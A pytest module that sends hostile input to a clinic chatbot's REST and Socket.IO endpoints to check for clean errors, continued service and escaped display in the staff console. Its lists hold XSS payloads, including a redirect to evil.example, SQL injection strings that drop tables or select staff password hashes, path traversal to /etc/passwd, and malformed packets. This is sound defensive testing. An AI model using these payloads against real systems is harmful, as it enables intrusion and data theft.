"""Hostile input on the REST and Socket.IO channels of the production profile.

Over 500 requests: empty and whitespace messages, 100 KB bodies, control characters,
invalid UTF-8, HTML and script, SQL, emoji, non-English text, deep and malformed JSON,
wrong types for ``sender`` and ``message``, a 10 KB sender, malformed Socket.IO packets.
Each gets a reply or a clear 4xx (never a 5xx or silence), the servers still answer a
normal question afterwards, and the staff console shows every hostile text escaped."""

from __future__ import annotations

import asyncio
import html
from concurrent.futures import ThreadPoolExecutor
import json
import time
import uuid
from typing import Any, Dict, List, Optional, Tuple

import aiohttp
import markupsafe
import pytest
import websocket

from tests.prod.phrases import expected_texts
from tests.prod.widget_client import Widget

MARK = uuid.uuid4().hex[:6]  # makes this run's hostile texts findable in the console

HTML = [
    f"<script>alert('{MARK}')</script>",
    f'<img src=x onerror=alert("{MARK}")>',
    f'"><svg onload=alert({MARK})>',
    f"<iframe src=javascript:alert('{MARK}')></iframe>",
    f"<b>{MARK}</b> what is ketamine",
    f"</textarea><script>document.location='//evil.example/?{MARK}'</script>",
    f"<a href=\"javascript:alert('{MARK}')\">click</a>",
    f"<style>body{{display:none}}</style>{MARK}",
    f"{{{{7*7}}}} ${{7*7}} {{% raw %}} {MARK}",
    f"<!-- {MARK} --> ]]> &lt;script&gt;",
]
SQL = [
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "\" OR 1=1 --",
    "Robert'); DROP TABLE callback_requests;--",
    "' UNION SELECT username, password_hash FROM staff_accounts --",
    "%' AND pg_sleep(5) --",
]
EMOJI = ["😀😀😀", "🔥", "👨‍👩‍👧‍👦", "🏳️‍🌈", "💊💉❓"]
FOREIGN = ["¿Qué es la ketamina?", "ケタミンとは何ですか", "что такое кетамин", "ما هو الكيتامين",
           "केटामाइन क्या है", "氯胺酮是什么", "Was ist Ketamin?", "Ketamin nedir?"]
CONTROL = ["hi\x00there", "\x1b[31mred\x1b[0m what is ketamine", "\x07\x08\x7fhello", "\u202eevil txt.exe",
           "\ufeffwhat is ketamine", "line one\r\nline two", "tab\tseparated"]
ODD = ["/crisis", "/nlu_fallback", "/does_not_exist", "/what_is_ketamine", "%s%s%s%n",
       "../../../../etc/passwd", "null", "undefined", "NaN", "[]", "{}", "A" * 2000, "word " * 5000,
       "I want to kill myself <script>alert(1)</script>"]
TEXTS = HTML + SQL + EMOJI + FOREIGN + CONTROL + ODD  # processed: each must get a reply
BLANK = ["", " ", "   \t\n  ", "\x00\x01\x02", "\u200b\u200e", "\r\n"]  # nothing left: 400
# Rasa's control intents and entity payloads: refused (400, or an error event)
REFUSED = ["/restart", "/back", "/session_start", '/greeting{"x": "<script>"}',
           '/affirm{"callback_name": "<img src=x onerror=alert(1)>"}', "/etc/passwd", "/ what is ketamine"]


def nested(depth: int, open_: str = "[", close: str = "]") -> str:
    return open_ * depth + close * depth


def raw_bodies() -> List[Tuple[str, bytes, Optional[str]]]:
    """(what, body, content type) of malformed requests: each must get a clear 4xx."""
    ok = {"sender": "x" + MARK, "message": "hi"}
    bodies: List[Tuple[str, bytes, Optional[str]]] = [
        ("empty body", b"", None), ("just a brace", b"{", None), ("plain text", b"not json", None),
        ("invalid utf-8", b"\xff\xfe\xfd", None),
        ("invalid utf-8 inside a string", b'{"sender":"a1","message":"\xff\xc3("}', None),
        ("NUL bytes", b"\x00" * 64, None), ("null", b"null", None), ("array", b"[]", None),
        ("number", b"123", None), ("string", b'"hello"', None), ("true", b"true", None),
        ("trailing garbage", json.dumps(ok).encode() + b"}}}", None),
        ("single quotes", b"{'sender': 'a1', 'message': 'hi'}", None),
        ("form-encoded", b"sender=a1&message=hi", "application/x-www-form-urlencoded"),
        ("xml", b"<message><sender>a1</sender></message>", "application/xml"),
        ("huge number", b'{"sender": "a1", "message": ' + b"9" * 5000 + b"}", None),
    ]
    for depth in (100, 1000, 10000, 30000):
        bodies.append((f"nested arrays {depth}", nested(depth).encode(), None))
        objects = min(depth, 10000)  # 6 bytes a level: stays under the 64 KB limit
        bodies.append((f"nested objects {depth} ({objects})", ('{"a":' * objects + "1" + "}" * objects).encode(), None))
        bodies.append((f"nested message {depth}",
                       ('{"sender": "a1", "message": ' + nested(min(depth, 20000)) + "}").encode(), None))
    wrong = [123, 1.5, True, None, [], {}, ["a1"], {"id": "a1"}, "", "a" * 129, "a" * 10240, "../etc",
             "<script>", "a b", "ü-umlaut", "a/b", "a?b", "a#b", "%2e%2e", "-leading-dash"]
    for i, value in enumerate(wrong):
        bodies.append((f"sender {i} {str(value)[:20]!r}", json.dumps({"sender": value, "message": "hi"}).encode(),
                       None))
    bodies.append(("no sender", json.dumps({"message": "hi"}).encode(), None))
    for i, value in enumerate([123, 1.5, True, None, [], {}, ["hi"], {"text": "hi"}, {"$gt": ""}]):
        bodies.append((f"message {i} {str(value)[:20]!r}", json.dumps({"sender": "a1", "message": value}).encode(),
                       None))
    bodies.append(("no message", json.dumps({"sender": "a1"}).encode(), None))
    for text in BLANK + REFUSED:
        bodies.append((f"refused message {text!r}", json.dumps({"sender": "a1", "message": text}).encode(), None))
    return bodies


TOO_LARGE = [
    ("100 KB message", json.dumps({"sender": "big" + MARK, "message": "x" * 100_000}).encode()),
    ("100 KB sender", json.dumps({"sender": "s" * 100_000, "message": "hi"}).encode()),
    ("1 MB of spaces", b" " * 1_000_000),
]


async def _post(session: aiohttp.ClientSession, url: str, body: bytes, content_type: Optional[str],
                params: Optional[Dict[str, str]] = None) -> Tuple[int, Any]:
    headers = {"Content-Type": content_type or "application/json"}
    async with session.post(url, data=body, headers=headers, params=params) as r:
        raw = await r.read()
        try:
            return r.status, json.loads(raw)
        except ValueError:
            return r.status, raw[:200]


def _texts_requests(sender_shared: str) -> List[Tuple[str, bytes, Optional[Dict[str, str]], str]]:
    """(what, body, query, sender) of well-formed requests carrying hostile text."""
    out = []
    for i, text in enumerate(TEXTS):
        fresh = f"h{MARK}-{i}"
        out.append((f"text {i} fresh", json.dumps({"sender": fresh, "message": text}).encode(), None, fresh))
        out.append((f"text {i} shared", json.dumps({"sender": sender_shared, "message": text}).encode(), None,
                    sender_shared))
        extra = {"sender": fresh + "-m", "message": text, "input_channel": "<script>", "metadata":
                 {"evil": "<script>alert(1)</script>", "deep": json.loads(nested(50))}}
        out.append((f"text {i} with metadata", json.dumps(extra).encode(), None, fresh + "-m"))
        out.append((f"text {i} streamed", json.dumps({"sender": fresh + "-s", "message": text}).encode(),
                    {"stream": "true"}, fresh + "-s"))
        out.append((f"text {i} as text/plain", json.dumps({"sender": fresh + "-t", "message": text}).encode(),
                    {"content_type": "text/plain"}, fresh + "-t"))
        longest = (fresh + "-" + "L" * 128)[:128]
        out.append((f"text {i} 128-character sender", json.dumps({"sender": longest, "message": text}).encode(),
                    None, longest))
    # JSON escapes Python cannot encode as UTF-8 (lone surrogates) and NUL
    for i, raw in enumerate(['"\\ud800 hello"', '"\\udfff what is ketamine"', '"\\u0000\\u0000hello"',
                             '"ok \\ud83d"']):
        sender = f"h{MARK}-esc{i}"
        out.append((f"escape {raw}", f'{{"sender": "{sender}", "message": {raw}}}'.encode(), None, sender))
    return out


@pytest.fixture(scope="module")
def rest_barrage(prod) -> Dict[str, Tuple[int, Any]]:
    """Every hostile REST request, sent once (12 at a time); what came back for each."""
    url = f"{prod.rasa_url}/webhooks/rest/webhook"
    shared = f"h{MARK}-shared"
    processed = _texts_requests(shared)
    malformed = raw_bodies()
    outcomes: Dict[str, Tuple[int, Any]] = {}

    async def send_all() -> None:
        limit = asyncio.Semaphore(12)
        async with aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=120)) as session:
            async def one(what, body, content_type=None, params=None):
                async with limit:
                    outcomes[what] = await _post(session, url, body, content_type, params)

            # the shared conversation in order, everything else at once
            def split(params):  # (content type, query)
                params = dict(params or {})
                return params.pop("content_type", None), params or None

            for what, body, params, sender in processed:
                if sender == shared:
                    await one(what, body, *split(params))
            await asyncio.gather(*(one(what, body, *split(params)) for what, body, params, sender in processed
                                   if sender != shared),
                                 *(one(what, body, ctype) for what, body, ctype in malformed),
                                 *(one(what, body) for what, body in TOO_LARGE))

    started = time.monotonic()
    asyncio.run(send_all())
    print(f"\n{len(outcomes)} hostile REST requests in {time.monotonic() - started:.1f}s")
    return outcomes


def test_hostile_requests_get_a_reply_or_a_clear_4xx(prod, rest_barrage):
    outcomes = rest_barrage
    shared = f"h{MARK}-shared"
    processed = _texts_requests(shared)
    malformed = raw_bodies()
    assert len(outcomes) == len(processed) + len(malformed) + len(TOO_LARGE) >= 350
    server_errors = {w: o for w, o in outcomes.items() if o[0] >= 500}
    assert not server_errors, server_errors
    unanswered = [(what, outcomes[what]) for what, _, _, _ in processed
                  if not (outcomes[what][0] == 200 and isinstance(outcomes[what][1], list) and outcomes[what][1]
                          and all(isinstance(m.get("text"), str) and m["text"] for m in outcomes[what][1]))]
    assert not unanswered, unanswered
    unclear = [(what, outcomes[what]) for what, _, _ in malformed
               if not (outcomes[what][0] == 400 and isinstance(outcomes[what][1], dict)
                       and outcomes[what][1].get("error"))]
    assert not unclear, unclear
    for what, _ in TOO_LARGE:
        assert outcomes[what][0] == 413, (what, outcomes[what])

    # still answering normally, and the hostile texts were stored cleaned and capped
    assert prod.turn(f"h{MARK}-after", "what is ketamine") == ["what_is_ketamine"]
    stored = [e["text"] for e in prod.tracker(shared)["events"] if e["event"] == "user"]
    assert len(stored) == len(TEXTS)
    assert all(len(t) <= 2000 and "\x00" not in t and "\x1b" not in t and "\u202e" not in t for t in stored)
    assert "👨‍👩‍👧‍👦" in stored and "ケタミンとは何ですか" in stored


def _widget(prod) -> Widget:
    origin = prod.env["ALLOWED_ORIGINS"].split(",")[0]
    return Widget(prod.url_of("rasa2"), origin)


def test_hostile_socketio_messages_get_a_reply_or_an_error(prod):
    """The widget's channel (on the second server): each hostile message gets bot replies
    or an ``error`` event; malformed packets and oversized messages close the connection."""
    def converse(texts: List[str]) -> int:
        widget = _widget(prod)
        try:
            session = widget.start_session(f"hs{MARK}" + uuid.uuid4().hex[:12])
            for text in texts:
                widget.emit({"message": text, "session_id": session})
                name, data = widget.next_event()
                assert name == "bot_uttered" and data.get("text"), (text, name, data)
                widget.drain(0.3)  # a reply may come in two messages
            return len(texts)
        finally:
            widget.close()

    texts = TEXTS + TEXTS
    with ThreadPoolExecutor(4) as pool:
        count = sum(pool.map(converse, [texts[k::4] for k in range(4)]))

    widget = _widget(prod)
    try:
        session = widget.start_session(f"hs{MARK}" + uuid.uuid4().hex[:12])
        wrong: List[Any] = ["hello", 123, None, [], ["hi"], {"message": 123, "session_id": session},
                            {"message": None, "session_id": session}, {"message": ["a"], "session_id": session},
                            {"message": {"$gt": ""}, "session_id": session}, {"message": "hi"},
                            {"message": "hi", "session_id": "<script>"}, {"message": "hi", "session_id": "x" * 10240},
                            {"message": "hi", "session_id": 42}]
        wrong += [{"message": text, "session_id": session} for text in BLANK + REFUSED]
        for data in wrong:
            widget.emit(data)
            name, reply = widget.next_event()
            assert name == "error" and reply.get("error"), (data, name, reply)
            count += 1
        for data in ["str", 123, None, {"session_id": 123}, {"session_id": "<script>alert(1)</script>"},
                     {"session_id": "a" * 10240}, ["x"]]:
            widget.emit(data, event="session_request")
            name, reply = widget.next_event()
            assert name == "session_confirm" and isinstance(reply, str) and "<" not in reply, (data, reply)
            count += 1
        widget.emit({"message": "x" * 100_000, "session_id": session})  # over the 64 KB packet limit
        assert widget.next_event()[0] == "disconnect"
        count += 1
    finally:
        widget.close()

    # Malformed Socket.IO packets on a raw WebSocket: the server closes or ignores them.
    ws_url = prod.url_of("rasa2").replace("http://", "ws://") + "/socket.io/?EIO=4&transport=websocket"
    origin = prod.env["ALLOWED_ORIGINS"].split(",")[0]
    for frame in ["garbage", "4", "42", "42[", '42["user_uttered"', '42["user_uttered",{"message":', "40/evil,",
                  '42["user_uttered",' + nested(5000) + "]", "\x00\xff", "9" * 1000, '451-["user_uttered",'
                  '{"_placeholder":true,"num":0}]', b"\x00\x01\x02\xff"]:
        ws = websocket.create_connection(ws_url, origin=origin, timeout=10)
        try:
            ws.recv()  # engine.io open packet
            ws.send("40")  # socket.io connect
            ws.recv()
            if isinstance(frame, bytes):
                ws.send_binary(frame)
            else:
                ws.send(frame)
            time.sleep(0.05)
        finally:
            ws.close()
        count += 1

    print(f"\n{count} hostile Socket.IO messages")
    assert count >= 140  # with the REST barrage (over 350), more than 500 hostile requests
    widget = _widget(prod)
    try:
        widget.start_session()
        assert widget.ask("where is the clinic") == expected_texts(["location"])
    finally:
        widget.close()
    assert prod.turn(f"h{MARK}-after-sio", "where is the clinic", "rasa2") == ["location"]


def test_the_staff_console_shows_hostile_text_escaped(prod, rest_barrage):
    from tests.console.conftest import PASSWORD, StaffClient
    from webapp.console import accounts

    accounts.create(f"hostile{MARK}", "staff", PASSWORD, actor="test", url=prod.env["CLINIC_DB_URL"])
    staff = StaffClient(prod.web_url)
    assert "/staff/login" not in staff.login(f"hostile{MARK}", PASSWORD).url
    senders = [f"h{MARK}-{i}" for i in range(len(TEXTS))] + [f"h{MARK}-shared"]
    senders += [f"h{MARK}-{i}-m" for i in range(len(HTML))]
    pages = []
    for sender in senders:
        r = staff.get(f"/staff/conversation?id={sender}")
        assert r.status_code == 200, (sender, r.status_code)
        pages.append((sender, r.text))
    for q in ["script", "onerror", "svg", MARK, "DROP TABLE"]:
        r = staff.get("/staff/conversations", params={"q": q})
        assert r.status_code == 200
        pages.append((f"list q={q}", r.text))
    dangerous = [t for t in TEXTS if "<" in t or ">" in t]  # markup, if a page let it through
    assert len(dangerous) >= 10
    for where, page in pages:
        for text in dangerous:
            assert text not in page, f"{where}: {text!r} appears unescaped"
    # and they are there, escaped, where staff read them
    shared = dict(pages)[f"h{MARK}-shared"]
    for text in HTML:
        assert str(markupsafe.escape(text)) in shared, text
    assert f"{{{{7*7}}}} ${{7*7}} {{% raw %}} {MARK}" in shared  # template syntax shown, not evaluated
    assert html.unescape(str(markupsafe.escape(HTML[0]))) == HTML[0]


def test_a_long_conversation_beyond_the_request_limit_is_still_answered(prod, sender):
    """The Rasa server refuses bodies over 64 KB, but sends the whole conversation to the
    action server with every call: 30 turns (over 64 KB of tracker) are still all answered."""
    from tests.prod.phrases import TOPICS

    for i in range(30):
        text, ids = TOPICS[i % len(TOPICS)]
        assert prod.turn(sender, text) == ids, (i, text)
    assert len(json.dumps(prod.tracker(sender))) > 65536
